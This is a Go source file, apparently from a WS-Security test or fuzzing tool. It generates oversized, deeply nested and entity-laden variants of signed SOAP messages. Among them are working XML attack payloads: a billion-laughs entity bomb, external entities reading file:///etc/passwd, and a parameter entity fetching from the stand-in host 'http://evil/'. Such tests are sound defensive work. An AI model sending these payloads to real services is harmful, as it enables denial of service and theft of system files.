package attacks

import (
	"fmt"
	"strings"
)

// bomb sends much, many and deep of everything that a receiver reads before it
// has authenticated the message.
func (f *forge) bomb() {
	for _, e := range f.security.all() {
		if e.isEmptyTag() && len(e.attrs) == 0 || len(f.source(e)) > 4096 {
			continue
		}
		if e.local == "Reference" || e.local == "Transform" || e.local == "DataReference" || e.local == "DerivedKeyToken" ||
			e.local == "ReferenceList" || e.local == "Signature" || e.local == "EncryptedKey" || e.local == "Timestamp" ||
			e.local == "BinarySecurityToken" || e.local == "SecurityTokenReference" || e.local == "KeyInfo" {
			f.add(fmt.Sprintf("100 %s at %d", e.local, e.start), f.edited(insert(e.end, strings.Repeat(f.source(e), 99))))
		}
	}
	f.bombDeep()
	f.bombWide()
	for _, doctype := range []string{
		`<!DOCTYPE s [<!ENTITY a "a"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>`,
		`<!DOCTYPE s SYSTEM "file:///etc/passwd">`, `<!DOCTYPE s [<!ENTITY % p SYSTEM "http://evil/"> %p;]>`,
		`<!DOCTYPE s [<!ATTLIST s Id ID #IMPLIED>]>`, `<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>`,
	} {
		f.add("document type", strings.Replace(doctype+f.src, "<?xml", "<?other", 1))
		f.add("document type, entity in Body", doctype+f.edited(beforeEnd(f.body, "&a;&c;&x;")))
	}
}

// bombDeep nests.
func (f *forge) bombDeep() {
	for _, depth := range []int{100, 130, 1000, 10000} {
		deep := strings.Repeat("<a>", depth) + strings.Repeat("</a>", depth)
		for _, e := range []*element{f.header, f.security, f.body} {
			f.add(fmt.Sprintf("%d deep in %s", depth, e.local), f.edited(beforeEnd(e, deep)))
		}
		if f.signature != nil {
			f.add(fmt.Sprintf("%d deep in Signature", depth), f.edited(beforeEnd(f.signature, `<ds:Object xmlns:ds="`+nsDS+
				`">`+deep+`</ds:Object>`)))
		}
		f.add(fmt.Sprintf("%d Security headers in one another", depth), f.edited(beforeEnd(f.security,
			strings.Repeat(`<o:Security xmlns:o="`+nsWSSE+`">`, min(depth, 1000))+
				strings.Repeat("</o:Security>", min(depth, 1000)))))
		f.add(fmt.Sprintf("%d open tags", depth), f.src[:f.body.open]+strings.Repeat("<a>", depth))
	}
}

// bombWide sends attributes, declarations, prefixes, octets.
func (f *forge) bombWide() {
	for _, n := range []int{300, 5000} {
		var attributes, declarations, prefixes, blocks strings.Builder
		for i := range n {
			fmt.Fprintf(&attributes, ` a%d=""`, i)
			fmt.Fprintf(&declarations, ` xmlns:p%d="urn:%d"`, i, i)
			fmt.Fprintf(&prefixes, "p%d ", i)
			fmt.Fprintf(&blocks, `<b:Block xmlns:b="urn:b%d"/>`, i)
		}
		for _, e := range []*element{f.root, f.header, f.security, f.body} {
			f.add(fmt.Sprintf("%d attributes on %s", n, e.local), f.edited(insert(e.open-1, attributes.String())))
			f.add(fmt.Sprintf("%d declarations on %s", n, e.local), f.edited(insert(e.open-1, declarations.String())))
		}
		f.add(fmt.Sprintf("%d header blocks", n), f.edited(beforeEnd(f.header, blocks.String())))
		for _, e := range f.security.all() {
			if e.local == "Transform" || e.local == "CanonicalizationMethod" {
				list := `<ec:InclusiveNamespaces xmlns:ec="http://www.w3.org/2001/10/xml-exc-c14n#" PrefixList="` +
					prefixes.String() + `"/>`
				if !e.isEmptyTag() {
					f.add(fmt.Sprintf("%d prefixes in a PrefixList at %d", n, e.start), f.edited(edit{e.open, e.close, list}))
				}
			}
		}
	}
	for _, e := range f.security.all() {
		if e.local == "BinarySecurityToken" || e.local == "SignatureValue" || e.local == "DigestValue" ||
			e.local == "KeyIdentifier" || e.local == "Nonce" || e.local == "CipherValue" || e.local == "Created" {
			for _, n := range []int{1 << 10, 1 << 18, 1 << 20} {
				f.add(fmt.Sprintf("%d octets of base64 in %s", n, e.local), f.edited(insert(e.open, strings.Repeat("AAAA", n/4))))
				f.add(fmt.Sprintf("%d spaces in %s", n, e.local), f.edited(insert(e.open, strings.Repeat(" ", n))))
			}
		}
	}
}
